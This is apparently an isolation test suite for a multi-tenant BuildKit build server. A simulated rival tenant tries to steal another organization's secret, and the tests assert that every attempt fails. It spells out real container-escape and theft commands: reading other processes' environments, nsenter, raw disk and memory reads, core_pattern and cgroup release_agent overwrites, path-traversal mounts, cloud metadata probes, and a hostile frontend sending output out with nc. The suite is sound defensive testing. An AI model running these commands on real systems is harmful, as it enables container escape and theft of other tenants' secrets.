/**
 * A build that wants the data of others, on one server with another organization that builds at the same time. Each try
 * is made for real, with all rights that a step has. They look for a text that only others have: in the server's data
 * folder, next to its key and its records, in its environment, in a layer of the other builder, at the machine's
 * loopback. It never comes back.
 *
 * 1. A step: files, devices, the kernel's settings, control groups, other processes, and the rights that it begins with.
 * 2. Everything that a Dockerfile or a client can name: mounts, contexts, links, addresses of files, devices, more
 *    rights. The builder continues.
 * 3. A frontend that a stranger made, run as an image.
 * 4. The network: the other builder's step and sockets, its namespace, raw packets, IPv6, abstract sockets, names, the
 *    machine's loopback, the clouds' metadata about the machine.
 * 5. Sources that buildkitd itself would fetch for a build: the other organization's images, the server's API, the
 *    machine's loopback.
 * 6. A client with the certificate of one build at the builder of another.
 */
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createToken } from "#accounts/index.ts";
import { makePerson } from "#accounts/testing/accounts.ts";
import { placesOf, runFolderOf } from "#builds/testing/machine.ts";
import { comesTrue } from "../../attack/processes.ts";
import {
  addProject,
  type Call,
  type Client,
  createClient,
  type Project,
  type Solving,
  type Way,
} from "./build-client.ts";
import { type BuildServer, startBuildServer } from "./build-server.ts";
import { BUILD_MS, findBuildTools, findProcesses } from "./machine-stage.ts";

const tools = await findBuildTools();
const END_MS = 30_000;
const AT_ONCE = 6;
/** In no Dockerfile: so where it comes back, it was read. */
const SECRET = randomBytes(12).toString("hex");
const OWNED = `owned-${randomBytes(4).toString("hex")}`;
const SETTINGS = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname"];
/** Rights of a container by default: none over the system, its network, its devices, or files of other namespaces. */
const RIGHTS = "00000000a80425fb";

describe.skipIf(!tools || process.arch !== "x64")("between builders", { timeout: BUILD_MS }, () => {
  let server: BuildServer;
  let host: string;
  let thief: { client: Client; project: Project; way: Way; id: string };
  let other: { name: string; project: Project; solving: Solving };
  let loopback: { server: Server; port: number };
  const before = SETTINGS.map((file) => readFileSync(file, "utf8"));

  beforeAll(async () => {
    process.env["BUILDKITD"] = join(tools!.programs, "buildkitd");
    process.env["MILLRACE_TEST_SECRET"] = SECRET;
    server = await startBuildServer({
      folder: mkdtempSync(join(tools!.folder, "server-")),
      env: { MILLRACE_BUILDER_PORT: "0" },
    });
    ({ host } = new URL(server.origin));
    writeFileSync(join(server.folder, "canary"), SECRET);
    loopback = await listenAt("127.0.0.1", SECRET);
    const { body: who } = await server.call("AccountService/WhoAmI", {});
    const client = createClient(server.call, tools!);
    const project = await addProject(server.call, "hello");
    const secretImage = `FROM base\nRUN --mount=type=secret,id=canary cat /run/secrets/canary > /canary\n`;
    const secretFile = join(tools!.folder, "secret");
    writeFileSync(secretFile, SECRET);
    const pushed = await client.build(project, secretImage, {
      more: [
        `--secret=id=canary,src=${secretFile}`,
        `--output=type=image,name=${host}/${who.organization}/hello:1,push=true`,
      ],
      config: client.login(project, host),
    });
    expect(pushed.code, pushed.output).toBe(0);
    const serving =
      "RUN --mount=type=secret,id=canary (while :; do nc -l -p 7002 -e cat /run/secrets/canary; done) & cp /run/secrets/canary /canary; sleep 7654322\n";
    const solving = client.solve(
      await client.reach(project, await client.create(project)),
      `FROM base\n${serving}`,
      {
        more: [`--secret=id=canary,src=${secretFile}`],
      },
    );
    other = { name: who.organization, project, solving };
    expect(await comesTrue(() => findProcesses("sleep 7654322").length > 0, END_MS), solving.output()).toBe(
      true,
    );

    const { accounts } = server;
    const { caller } = await makePerson({ accounts }, "eve", { organization: "evil" });
    const { secret } = await createToken(accounts, caller, { name: "all", type: "org" });
    const call: Call = (method, request, token = secret) => server.call(method, request, token);
    const { body } = await call("ProjectService/Create", { name: "hello" });
    const { id, name } = body.project;
    const made = await createToken(accounts, caller, { name, type: "project", projectId: id });
    const own = { id, name, token: made.secret };
    const thieves = createClient(call, tools!);
    const buildId = await thieves.create(own);
    thief = { client: thieves, project: own, id: buildId, way: await thieves.reach(own, buildId) };
  }, BUILD_MS);
  afterAll(async () => {
    loopback?.server.close();
    await server?.close();
    if (tools) rmSync(tools.folder, { recursive: true, force: true });
  });

  /** State that no try may have changed, whatever it has printed. */
  function expectUntouched(): void {
    expect(readFileSync(join(server.folder, "canary"), "utf8")).toBe(SECRET);
    const found = execFileSync("find", [server.folder, "-maxdepth", "2", "-name", `${OWNED}*`], {
      encoding: "utf8",
    });
    expect(found).toBe("");
    expect(SETTINGS.map((file) => readFileSync(file, "utf8"))).toEqual(before);
    expect(other.solving.child.exitCode).toBe(null);
  }

  /** @param tries shell commands by name: the output of each is printed, and that it ran */
  async function tryAll(
    tries: Readonly<Record<string, string>>,
    more: readonly string[] = [],
  ): Promise<string> {
    const lines = Object.entries(tries).map(
      ([name, command]) => `(${command}) 2>&1 | head -c 2000; echo; echo "tried ${name}"`,
    );
    const file = { "tries.sh": `${lines.join("\n")}\n` };
    const dockerfile = "FROM base\nCOPY tries.sh /\nRUN sh /tries.sh\n";
    const { code, output } = await thief.client.solve(thief.way, dockerfile, { files: file, more }).ended;
    expect(code, output).toBe(0);
    for (const name of Object.keys(tries)) expect(output).toContain(`tried ${name}\n`);
    expect(output).not.toContain(SECRET);
    expectUntouched();
    return output;
  }

  test("1. a step", async () => {
    const data = server.folder;
    const { dev } = statSync(data);
    // As the kernel's makedev(3) packs them.
    const [major, minor] = [(dev >> 8) & 0xfff, (dev & 0xff) | ((dev >> 12) & 0xfff00)];
    const run = placesOf(data).runFolder;
    const output = await tryAll({
      control: "echo it-$((40 + 2))-works",
      rights: "grep Cap /proc/self/status",
      read: `cat ${data}/canary ${data}/secret.key; ls -lR ${data}`,
      find: "find / -name canary -exec cat {} + ; find / -name secret.key -exec cat {} +",
      roots: `for each in /proc/[0-9]*; do cat $each/root${data}/canary $each/cwd/canary $each/environ; done`,
      write: `mkdir -p ${data}; echo x > ${data}/${OWNED}; echo x > /proc/1/root${data}/${OWNED}; rm -rf ${data}/canary`,
      processes:
        "ps; kill -9 -1; for each in 1 2 3 4 5 6 7 8 9; do kill -0 $each && cat /proc/$each/environ; done",
      disk: `mknod /disk b ${major} ${minor} && dd if=/disk bs=1M count=64 && dd if=/dev/zero of=/disk bs=512 count=1`,
      memory:
        "mknod /mem c 1 1 && dd if=/mem bs=1M count=1; cat /proc/kcore | head -c 100 | wc -c; cat /proc/kmsg & sleep 0.1; kill %1",
      settings: SETTINGS.map((file) => `echo '|/bin/${OWNED}' > ${file}`).join("; "),
      sysrq:
        "echo t > /proc/sysrq-trigger; echo 1 > /sys/kernel/uevent_helper; echo /x > /sys/kernel/uevent_helper",
      groups: [
        "for each in /sys/fs/cgroup/* /sys/fs/cgroup; do echo /x > $each/release_agent; echo 0 > $each/../cgroup.procs; mkdir $each/out; done",
        "mkdir /g && mount -t cgroup -o memory g /g; mount -t cgroup2 g /g; unshare -Urm sh -c 'mount -t cgroup -o rdma g /g && ls /g'",
      ].join("; "),
      namespaces: `nsenter -t 1 -m -n cat ${data}/canary; nsenter --net=/proc/1/ns/net ip address; unshare -m true && echo unshared`,
      mounts: `mkdir /m; mount -t proc p /m; mount -o bind ${data} /m && cat /m/canary; mount -t devtmpfs d /m && ls /m; chroot /proc/1/root cat ${data}/canary`,
      builder: `ls ${run}; cat ${run}/*/buildkitd.toml; ls -l /run /run/runc /var/lib/cni /run/*/buildkitd.sock`,
      links: `ln -s ${data}/canary /link; cat /link; ln -s /proc/1/root /root-of; cat /root-of${data}/canary`,
    });
    expect(output).toContain("it-42-works");
    expect(output).toMatch(new RegExp(`CapEff:\\s+${RIGHTS}`));
    expect(output).toMatch(new RegExp(`CapBnd:\\s+${RIGHTS}`));
    expect(output).not.toMatch(/records in|unshared|release_agent: *$/m);
  });

  test("2. what a build can name", async () => {
    const data = server.folder;
    const leak = join(tools!.folder, "leak");
    mkdirSync(leak);
    symlinkSync(join(data, "canary"), join(leak, "canary"));
    symlinkSync(data, join(leak, "folder"));
    symlinkSync("../".repeat(20) + join(data, "canary").slice(1), join(leak, "above"));
    execFileSync("git", ["init", "-q", join(data, "repository")]);
    writeFileSync(join(data, "repository", "canary"), SECRET);
    const git = ["-C", join(data, "repository"), "-c", "user.name=a", "-c", "user.email=a@b"];
    execFileSync("git", [...git, "add", "."]);
    execFileSync("git", [...git, "commit", "-qm", "a"]);
    const links = `RUN ln -s ${data} /folder; ln -s ${data}/canary /canary`;
    const up = "../".repeat(20);
    const named = ["--opt=context:leak=local:leak", `--local=leak=${leak}`];
    const show = "RUN cat /x /x/* /m/canary /m; ls -R /m; true";
    const write = `RUN --mount=type=cache,id=${up}${data.slice(1)},target=/m ls -R /m; cat /m/canary; echo x > /m/${OWNED}; true`;
    const tries: [dockerfile: string, more?: readonly string[]][] = [
      [`FROM base\nRUN --mount=type=bind,source=${data},target=/m cat /m/canary`],
      [`FROM base\nRUN --mount=type=bind,source=${up}${data},target=/m cat /m/canary`],
      [
        `FROM base AS a\n${links}\nFROM base\nRUN --mount=type=bind,from=a,source=/folder,target=/m cat /m/canary`,
      ],
      [
        `FROM base AS a\n${links}\nFROM base\nRUN --mount=type=cache,from=a,source=/folder,target=/m cat /m/canary`,
      ],
      [`FROM base\n${write}`],
      [`FROM base\nRUN --mount=type=cache,id=/${up}${data},target=/${up}${data} cat ${data}/canary; true`],
      [`FROM base\nRUN --mount=type=tmpfs,target=/proc/1/root${data} cat ${data}/canary; true`],
      [`FROM base\nRUN --mount=type=secret,id=${up}${data}/canary,target=/x cat /x; true`],
      [`FROM base\nRUN --mount=type=secret,id=MILLRACE_TEST_SECRET,env=FOUND echo $FOUND; true`],
      [`FROM base\nRUN --mount=type=ssh,id=${up}${data}/canary ls -l $SSH_AUTH_SOCK; true`],
      [`FROM base\nCOPY ${up}${data}/canary /x\n${show}`],
      [`FROM base AS a\nFROM base\nCOPY --from=a ${up}${data}/canary /x\n${show}`],
      [`FROM base AS a\n${links}\nFROM base\nCOPY --from=a /canary /folder/canary /x/\n${show}`],
      [`FROM base AS a\n${links}\nFROM base\nCOPY --from=a /folder/ /x/\n${show}`],
      [`FROM base\n${links}\nCOPY tries.sh /folder/${OWNED}\nWORKDIR /folder\nRUN cat canary; true`],
      [`FROM base\nCOPY --from=leak canary /x\n${show}`, named],
      [`FROM base\nCOPY --from=leak folder /x\n${show}`, named],
      [`FROM base\nCOPY --from=leak above /x\n${show}`, named],
      [`FROM base\nRUN --mount=type=bind,from=leak,source=folder,target=/m cat /m/canary`, named],
      [`FROM base\nADD file://${data}/canary /x\n${show}`],
      [`FROM base\nADD file://${data}/repository/.git /x\n${show}`],
      [`FROM base\nADD ${data}/repository/.git /x\n${show}`],
      [`FROM base\nADD ext::cat /x\n${show}`],
      [`FROM ${data}\n${show}`],
      [`FROM oci-layout://x@sha256:${"0".repeat(64)}\n${show}`],
      [`FROM base\nCOPY --from=else / /x\n${show}`, [`--opt=context:else=file://${data}/repository`]],
      [`FROM base\nCOPY --from=else / /x\n${show}`, [`--opt=context:else=${data}/repository/.git`]],
      [`FROM base\nCOPY --from=else / /x\n${show}`, [`--opt=context:else=local:${up}${data}`]],
      [`FROM base\nCOPY --from=else / /x\n${show}`, [`--opt=context:else=input:${data}`]],
      [`FROM base\nCOPY . /x\n${show}`, [`--opt=context=file://${data}/repository`]],
      [`FROM base\nCOPY . /x\n${show}`, [`--opt=context=${data}/repository/.git`]],
      [`FROM base\nRUN --network=host cat /proc/net/unix`],
      [`FROM base\nRUN --security=insecure cat ${data}/canary`],
      [`FROM base\nRUN --device=vendor.com/class=name cat ${data}/canary`],
      [`FROM base\nRUN --device=nvidia.com/gpu=all cat ${data}/canary`],
      [`FROM base\nRUN cat ${data}/canary; true`, ["--opt=cgroup-parent=/../.."]],
      [`FROM base\nRUN --network=host true`, ["--opt=force-network-mode=host"]],
      [
        `FROM base\nRUN cat /proc/net/unix /etc/canary; true`,
        [`--opt=add-hosts=x=127.0.0.1`, `--opt=shm-size=1`],
      ],
    ];
    const ended = await eachOf(
      tries,
      ([dockerfile, more = []]) =>
        thief.client.solve(thief.way, `${dockerfile}\n`, { files: { "tries.sh": "x" }, more }).ended,
    );
    for (const [at, { output }] of ended.entries()) {
      expect(output, tries[at]!.join("\n")).not.toContain(SECRET);
      // It reached the builder, or the check in front of it.
      expect(output, tries[at]!.join("\n")).toMatch(/^#\d+ |builders choose the cgroup/m);
      expect(output, tries[at]!.join("\n")).not.toContain("the builder has ended");
    }
    expectUntouched();
    // Some have built, so the others were refused for what they name.
    expect(ended.filter(({ code }) => code === 0).length).toBeGreaterThan(5);
    for (const name of ["network", "security", "device"]) {
      const at = tries.findIndex(([dockerfile]) => dockerfile.includes(`RUN --${name}=`));
      expect(ended[at]!.code, ended[at]!.output).not.toBe(0);
    }
  });

  test("3. a frontend", async () => {
    const heard: string[] = [];
    const { server: listener, port } = await listenAt("0.0.0.0", "", heard);
    const address = findAddress();
    const data = server.folder;
    const say = `| nc -w 3 ${address} ${port}`;
    const script = [
      "#!/bin/sh",
      `{ echo frontend here; grep CapEff /proc/self/status; } ${say}`,
      `{ cat ${data}/canary /proc/*/root${data}/canary /proc/*/environ; find / -xdev -name canary -exec cat {} +; } 2>&1 ${say}`,
      `echo x > ${data}/${OWNED}; echo x > /proc/1/root${data}/${OWNED}; mknod /d b 254 0 && dd if=/d bs=1M count=1 ${say}`,
      `for at in 127.0.0.1 10.64.0.1 10.64.0.2; do echo | nc -w 1 $at ${loopback.port} ${say}; done`,
      `for at in 1 2 3 4 5; do echo | nc -w 1 10.64.1.$at 7002 ${say}; done`,
      `printf 'GET /v2/${other.name}/hello/manifests/1 HTTP/1.0\\r\\n\\r\\n' | nc -w 1 127.0.0.1 ${server.port} ${say}`,
      `echo frontend ended ${say}`,
      "exit 1",
    ].join("\n");
    const image = `${host}/evil/hello:frontend`;
    const { client, project } = thief;
    const config = client.login(project, host);
    const dockerfile = 'FROM base\nCOPY --chmod=755 frontend /frontend\nENTRYPOINT ["/frontend"]\n';
    const more = [`--output=type=image,name=${image},push=true`];
    const pushed = await client.solve(thief.way, dockerfile, { files: { frontend: script }, more, config })
      .ended;
    expect(pushed.code, pushed.output).toBe(0);
    const { code, output } = await client.solve(thief.way, `# syntax=${image}\nFROM scratch\n`, { config })
      .ended;
    listener.close();
    expect(code, output).not.toBe(0);
    const said = heard.join("");
    if (address !== "") expect(said, output).toContain("frontend here");
    if (address !== "") expect(said).toContain("frontend ended");
    expect(said).not.toContain(SECRET);
    expect(said).not.toContain("schemaVersion");
    expect(output).not.toContain(SECRET);
    expectUntouched();
  });

  test("4. the network", async () => {
    const port = loopback.port;
    const { port: builderPort } = new URL(thief.way.address.replace("tcp:", "http:"));
    const abstract = `millrace-${OWNED}`;
    const listening = createServer((socket) => socket.end(SECRET)).listen(`\0${abstract}`);
    const theirs = runFolderOf(server.folder, other.project.id);
    const get = (path: string) => `printf 'GET ${path} HTTP/1.0\\r\\nHost: ${host}\\r\\n\\r\\n'`;
    const gateways = [
      "10.64.0.1",
      "10.64.0.2",
      "10.64.0.3",
      "127.0.0.1",
      "10.64.0.0",
      "10.64.255.255",
      "0.0.0.0",
    ];
    const output = await tryAll({
      control:
        "(echo it-$((40 + 2))-listens | nc -l -p 7003 &) ; until echo | nc -w 1 127.0.0.1 7003; do usleep 10000; done",
      steps:
        "for b in 0 1 2; do for n in 1 2 3 4 5 6 7 8; do (echo | nc -w 1 10.64.$b.$n 7002) & done; done; wait",
      loopbacks: `${gateways
        .flatMap((at) =>
          [port, server.port, builderPort].map((each) => `(${get("/v2/")} | nc -w 1 ${at} ${each}) &`),
        )
        .join(" ")} wait`,
      mapped: `echo | nc -w 1 ::ffff:127.0.0.1 ${port}; echo | nc -w 1 ::1 ${port}; echo | nc -w 1 2130706433 ${port}`,
      sockets: `ls -l ${theirs} ${theirs}/buildkitd.sock; cat /proc/net/unix; nc local:${theirs}/buildkitd.sock`,
      unix: `cat /proc/net/unix | grep -c ${abstract}; cat /proc/1/net/unix | grep -c buildkitd`,
      clouds: `${get("/latest/meta-data/")} | nc -w 1 169.254.169.254 80; echo | nc -w 1 169.254.170.2 80; echo | nc -w 1 fd00:ec2::254 80`,
      ipv6: `ip -6 route; ping6 -c 2 -w 2 ff02::1%eth0; for at in $(ip -6 neigh | awk '{ print $1 }'); do echo | nc -w 1 $at%eth0 ${port}; echo | nc -w 1 $at%eth0 7002; done`,
      raw: "arping -c 2 -w 2 -I eth0 10.64.1.1; arping -c 2 -w 2 -I eth0 10.64.0.2; arping -U -c 2 -w 2 -I eth0 10.64.0.1; ping -c 1 -w 1 -I 10.64.1.1 10.64.0.2",
      address:
        "ip address add 10.64.0.2/32 dev eth0; ip link set eth0 address 02:00:00:00:00:01; ip route add 10.64.1.1 dev eth0; echo 1 > /proc/sys/net/ipv4/ip_forward; ip link add x type veth; ip netns add x",
      names: `cat /etc/resolv.conf /etc/hosts; nslookup -timeout=1 localhost 10.64.0.3; echo | nc -w 1 10.64.0.3 53; echo | nc -w 1 10.64.0.3 ${port}`,
    });
    listening.close();
    expect(output).toContain("it-42-listens");
    // Answers of the other step, of the registry that only buildkitd sees, of the builders' port.
    expect(output).not.toMatch(/docker-distribution-api-version|HTTP\/1\.[01] \d\d\d/i);
    expect(output).not.toMatch(/buildkitd\.sock$/m);
    expect(output.match(/Operation not permitted/g)?.length ?? 0).toBeGreaterThan(2);
  });

  test("5. what buildkitd fetches", async () => {
    const at = `http://127.0.0.1:${server.port}`;
    const digest = `sha256:${"0".repeat(64)}`;
    const urls = [
      ...[
        `/v2/${other.name}/hello/manifests/1`,
        `/v2/${other.name}/hello/tags/list`,
        "/v2/_catalog",
        "/api/",
        "/metrics",
        "/readyz",
      ].map((path) => at + path),
      `http://${host}/v2/${other.name}/hello/manifests/1`,
      `http://${host}/v2/${other.name}/hello/blobs/${digest}`,
      ...["127.0.0.1", "10.64.0.1", "10.64.0.2", "[::1]", "0.0.0.0"].map(
        (each) => `http://${each}:${loopback.port}/`,
      ),
      "http://169.254.169.254/latest/meta-data/",
    ];
    const show = "RUN cat /x; true";
    const image = `${host}/${other.name}/hello:1`;
    const tries = [
      ...urls.map((url) => `FROM base\nADD ${url} /x\n${show}\n`),
      `FROM ${image}\nRUN cat /canary\n`,
      `FROM base\nCOPY --from=${image} /canary /x\n${show}\n`,
      `FROM base\nRUN --mount=type=bind,from=${image},source=/canary,target=/x cat /x\n`,
    ];
    const ended = await eachOf(tries, (dockerfile) => thief.client.solve(thief.way, dockerfile).ended);
    for (const [number, { code, output }] of ended.entries()) {
      expect(code, `${tries[number]}\n${output}`).not.toBe(0);
      expect(output).not.toContain(SECRET);
    }
    expectUntouched();
  });

  test("6. a certificate of one build at another", async () => {
    const { client, way } = thief;
    const refs = findRefs(other.solving.output());
    const histories = await client.run([...way.flags, "debug", "histories"]).ended;
    const usage = await client.run([...way.flags, "du", "--verbose"]).ended;
    const logs = await Promise.all(
      refs.map((ref) => client.run([...way.flags, "debug", "logs", ref, "--progress=plain"]).ended),
    );
    for (const { output } of [histories, usage, ...logs]) {
      expect(output).not.toContain(SECRET);
      expect(output).not.toContain("7654322");
    }
    const request = { build_id: thief.id, platform: "linux/amd64" };
    const { body } = await server.call("BuilderService/GetEndpoint", request, other.project.token);
    expect(["not_found", "permission_denied"]).toContain(body.code);
    expect(other.solving.child.exitCode).toBe(null);
  });
});

/** A few at a time, because a build's connections are limited. */
async function eachOf<One, Result>(
  all: readonly One[],
  work: (one: One) => Promise<Result>,
): Promise<Result[]> {
  const results: Result[] = [];
  for (let from = 0; from < all.length; from += AT_ONCE)
    results.push(...(await Promise.all(all.slice(from, from + AT_ONCE).map(work))));
  return results;
}

const findRefs = (output: string): string[] => [
  ...new Set(output.match(/[a-z0-9]{25}/g) ?? ["a".repeat(25)]),
];

const findAddress = (): string =>
  Object.values(networkInterfaces())
    .flatMap((each) => each ?? [])
    .find(({ family, internal }) => family === "IPv4" && !internal)?.address ?? "";

/** @param heard filled with what it receives */
async function listenAt(
  host: string,
  text: string,
  heard: string[] = [],
): Promise<{ server: Server; port: number }> {
  const server = createServer((socket) => {
    socket.on("error", () => {}).on("data", (data: Buffer) => void heard.push(data.toString()));
    if (text !== "") socket.end(`HTTP/1.0 200 OK\r\n\r\n${text}`);
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  const address = server.address();
  return { server, port: typeof address === "object" && address ? address.port : 0 };
}
